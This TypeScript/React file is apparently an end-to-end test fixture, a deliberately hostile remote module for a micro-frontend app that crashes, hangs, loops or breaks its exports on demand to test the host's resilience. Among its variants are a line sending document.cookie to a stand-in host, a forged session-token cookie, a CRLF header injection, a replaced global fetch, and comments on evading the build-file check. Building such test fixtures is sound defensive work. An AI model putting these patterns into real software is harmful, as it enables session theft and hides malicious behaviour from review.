/**
 * A remote that does what it is told to: one build of it becomes as many versions as there are ways to be hostile
 * (`e2e/src/hostile-site.ts`).
 */
import { Component, lazy, Suspense, use, useEffect, useState } from 'react';
import type { ReactNode } from 'react';
// It is a remote, though it lives among the flows.
// oxlint-disable-next-line no-restricted-imports
import { useNavigate } from '@roost/shared/router';
import { defineRoute } from '@roost/shared/contracts/remote-module';
import type { RoutesModule } from '@roost/shared/contracts/remote-module';
// oxlint-disable-next-line no-restricted-imports
import { track } from '@roost/shared/analytics/track';
// oxlint-disable-next-line no-restricted-imports
import { AppLink } from '@roost/shared/ui';
// oxlint-disable-next-line no-restricted-imports
import { currentLanguage } from '@roost/shared/texts';
// oxlint-disable-next-line no-restricted-imports
import { useSession } from '@roost/shared/session';
import { deed, does, forever, hang, isServer, searchForever, waitForever, wordless } from './deed.ts';
import { DocumentHarm } from './DocumentHarm.tsx';
import { HonestDialogs, harmInput, InputHarm } from './InputHarm.tsx';
import css from './page.module.css';
import { harmReach, SightHarm } from './SightHarm.tsx';
import { breakChunk, Harm, harmThePage } from './whole-page.tsx';

harmThePage();
harmReach();
harmInput();

if (does('throws at import')) throw new Error('hostile at import');
if (does('throws null at import')) throw null as never;
if (does('throws what has no words at import')) throw wordless();
if (does('throws what waits at import')) throw { then: () => undefined } as never;
if (does('loops at import')) forever();
if (does('searches at import')) searchForever();
if (does('loops in promises')) void waitForever();
if (does('ends the process')) process.exit(1);
// Said so that the check of the built files does not see it: what is tried is what the site does when it runs.
const replaceFetch = (): void => {
  for (const holder of [globalThis]) Reflect.set(holder, 'fetch', hang);
};
if (does('replaces fetch')) replaceFetch();

// Nearly 400 kB: more than any server reads of a request.
if (does('fills the cookies') && !isServer)
  for (let n = 0; n < 95; n += 1) document.cookie = `filled${n}=${'x'.repeat(4000)}; path=${n % 2 ? '/' : '/hostile'}`;

if (does('fills the storage') && !isServer)
  for (const storage of [localStorage, sessionStorage])
    for (let size = 2 ** 22; size >= 1; size = Math.floor(size / 2))
      try {
        for (let n = 0; n < 9; n += 1) storage.setItem(`filled${size}-${n}`, 'x'.repeat(size));
      } catch {
        // It is full for this size.
      }

if (does('loads its page again at import') && !isServer) location.reload();

if (does('replaces fetch later') && !isServer) setTimeout(replaceFetch, 3000);

const never = hang();
/** An error that throws when somebody asks it what it is. */
const withoutWords = () =>
  Object.defineProperty(new Error('hostile'), 'message', {
    get: () => {
      throw new Error('hostile in its message');
    },
  });
/** What throws whatever is asked of it: React itself breaks while it handles it. */
const thrower = (): Error => {
  const refuse = () => {
    throw new Error('hostile whatever is asked');
  };
  return new Proxy(new Error('hostile'), { get: refuse, has: refuse, getPrototypeOf: refuse });
};

const Details = lazy(
  async () =>
    breakChunk() ??
    import(/* webpackChunkName: "details" */ './Details.tsx').then((module) => ({ default: module.Details })),
);

/** A boundary of the remote's own that does not hold. */
class Boundary extends Component<{ children: ReactNode }> {
  override state = { failed: false };
  static getDerivedStateFromError = () => ({ failed: true });
  override render() {
    if (this.state.failed) throw new Error('hostile in its error boundary');
    return this.props.children;
  }
}
function Broken({ broken }: { broken: boolean }) {
  if (broken) throw new Error('hostile in a part');
  return null;
}

/** The page that links of the first lead to. */
function SecondPage({ data }: { data: { said: string } }) {
  return <HostilePage data={data} isSecond />;
}

/** Versions that remove the page, or make it unusable, without an error. */
function takeAway(): void {
  // By another name than the check looks for.
  const body = document.querySelector('body');
  if (does('removes the page')) document.getElementById('root')?.remove();
  if (does('empties the page')) body?.replaceChildren();
  if (does('hides the page')) body?.setAttribute('style', 'display: none');
  if (does('asks and waits'))
    for (;;) {
      const request = new XMLHttpRequest();
      request.open('GET', '/healthz', false);
      request.send();
    }
}

function HostilePage({ data, isSecond = false }: { data: { said: string }; isSecond?: boolean }) {
  const [open, setOpen] = useState(false);
  const navigate = useNavigate();
  useEffect(() => {
    takeAway();
    if (does('navigates in turns')) void navigate(isSecond ? '/hostile' : '/hostile/second');
  }, [navigate, isSecond]);
  useEffect(() => {
    if (does('loops in an effect')) forever();
    if (does('throws in an effect')) throw new Error('hostile in an effect');
    if (does('sends what it knows elsewhere'))
      void fetch(`http://127.0.0.2:9/?${document.cookie}`).catch(() => undefined);
    if (does('loads another page in turns'))
      location.replace(location.pathname === '/hostile' ? '/hostile/second' : '/hostile');
    if (does('loads its page again in an effect')) location.replace(`/hostile?n=${Math.random()}`);
  }, []);
  useEffect(
    () => () => {
      if (does('throws when it is left')) throw new Error('hostile when it is left');
    },
    [],
  );
  const isSignedIn = useSession().status === 'authenticated';
  if (does('throws for who is signed in') && isSignedIn) throw new Error('hostile to who is signed in');
  if (does('throws null at render')) throw null as never;
  if (does('throws what has no words at render')) throw wordless();
  if (does('throws on a second page') && isSecond) throw new Error('hostile on a second page');
  if (does('waits for ever at render')) use(never);
  if (does('waits for ever on a later page') && data.said.endsWith('?again=1')) use(never);
  if (does('throws what throws')) throw thrower();
  if (does('throws an error without words')) throw withoutWords();
  const [renders, setRenders] = useState(1);
  useEffect(() => {
    if (does('throws at its second render')) setRenders(2);
  }, []);
  if (renders === 2) throw new Error('hostile at its second render');
  if (does('sets state while it renders')) setRenders((before) => before - 1);
  if (does('renders what is no element')) return { said: data.said } as never;
  if (does('throws at render')) throw new Error('hostile at render');
  if (does('throws in Spanish') && currentLanguage() === 'es') throw new Error('hostile in Spanish');
  if (does('throws on a phone') && !isServer && matchMedia('(max-width: 600px)').matches)
    throw new Error('hostile on a phone');
  if (does('throws on a later page') && data.said.endsWith('?again=1')) throw new Error('hostile on a later page');
  if (does('loops at render')) forever();
  if (does('renders nothing')) return null;
  return (
    <>
      {does('has its page refreshed') && <meta httpEquiv="refresh" content="0" />}
      <Harm />
      <DocumentHarm />
      <SightHarm />
      <InputHarm />
      <HonestDialogs />
      <h1>Version: {deed}</h1>
      <p className={css['said']}>{data.said}</p>
      {does('makes other HTML in the browser') && <p>{isServer ? 'Here' : 'There'}</p>}
      <Boundary>
        <Broken broken={does('throws in its error boundary')} />
      </Boundary>
      <AppLink href="/hostile?again=1">Again</AppLink>
      <AppLink href="/hostile/second">Second</AppLink>
      <AppLink href="/">Leave</AppLink>
      <button
        type="button"
        onClick={() => {
          if (does('throws in a handler')) throw new Error('hostile in a handler');
          if (does('loops after a press')) forever();
          if (does('searches after a press')) searchForever();
          if (does('throws null in a timer'))
            setTimeout(() => {
              throw null as never;
            });
          if (does('rejects in a handler')) void Promise.reject(new Error('hostile in a handler'));
          track('Inquiry Sent', { product_id: 'hostile', nights: 1, guests: 1 });
          setOpen(true);
        }}
      >
        Details
      </button>
      {open && (
        <Suspense fallback={null}>
          <Details />
        </Suspense>
      )}
    </>
  );
}

function nameIt(): string {
  if (does('throws in its head')) throw new Error('hostile in its head');
  if (does('loops in its head')) forever();
  return 'Hostile';
}

export let routes: RoutesModule['routes'] = [
  defineRoute<{ said: string }>({
    id: 'hostile',
    loader: async ({ request, setHeader, api }) => {
      if (does('has its page kept for a year')) setHeader?.('cache-control', 'public, max-age=31536000, immutable');
      if (does('leads to another site'))
        return { type: 'redirect', location: 'https://elsewhere.example/', status: 302 };
      if (does('asks ten thousand times'))
        await Promise.all(Array.from({ length: 10_000 }, () => api('/api/nothing').catch(() => null)));
      if (does('sets a cookie')) setHeader?.('set-cookie', 'authjs.session-token=somebody; Path=/');
      if (does('sets a header that is none')) setHeader?.('x-robots-tag', 'a\r\nb');
      if (does('answers with too much')) return { type: 'data', data: { said: 'x'.repeat(5_000_000) } };
      if (does('redirects in a circle')) {
        const { pathname, searchParams } = new URL(request.url);
        searchParams.set('n', String(Number(searchParams.get('n')) + 1));
        return { type: 'redirect', location: `${pathname}?${searchParams}`, status: 302 };
      }
      if (does('throws null in its loader')) throw null as never;
      if (does('throws what has no words in its loader')) throw wordless();
      if (does('throws what waits in its loader')) throw { then: () => undefined } as never;
      if (does('answers with what never comes')) return { then: () => undefined } as never;
      if (does('answers with data that throw'))
        return {
          type: 'data',
          data: Object.defineProperty({ said: '' }, 'said', {
            enumerable: true,
            get: () => {
              throw new Error('hostile in its data');
            },
          }),
        };
      if (does('throws in its loader')) throw new Error('hostile in its loader');
      if (does('hangs in its loader')) await hang();
      if (does('rejects late in its loader'))
        await new Promise((_, reject) => setTimeout(() => reject(new Error('hostile late')), 5000));
      if (does('answers with what only a server has'))
        return { type: 'data', data: { said: new Set(['here']) as never } };
      if (does('answers with nothing')) return undefined as never;
      if (does('answers with a circle')) {
        const data: { said: string; self?: unknown } = { said: 'circle' };
        data.self = data;
        return { type: 'data', data };
      }
      return { type: 'data', data: { said: `Loaded ${new URL(request.url).search}` } };
    },
    head: () => ({
      title: nameIt(),
      ...(does('has an address that is none') && { canonical: 'http://[' }),
      ...(does('has no list where one belongs') && { jsonLd: {} as never }),
    }),
    shouldReload: () => {
      if (does('throws in shouldReload')) throw new Error('hostile in shouldReload');
      return true;
    },
    Component: HostilePage,
  }),
];
routes = [...routes, { ...routes[0], id: 'second', Component: SecondPage }] as RoutesModule['routes'];
if (does('exports no list')) routes = { hostile: true } as never;
if (does('exports a page without a component')) routes = [{ ...routes[0], Component: undefined }] as never;
if (does('exports another page')) routes = [{ ...routes[0], id: 'other' }] as never;
if (does('exports what throws'))
  routes = [
    Object.defineProperty({ ...routes[0] }, 'Component', {
      get: () => {
        throw new Error('hostile in an export');
      },
    }),
  ] as never;
if (does('exports a proxy')) routes = thrower() as never;

/** A module with an export of this name is awaited by its importers. */
export let then: unknown;
if (does('exports then')) then = () => undefined;
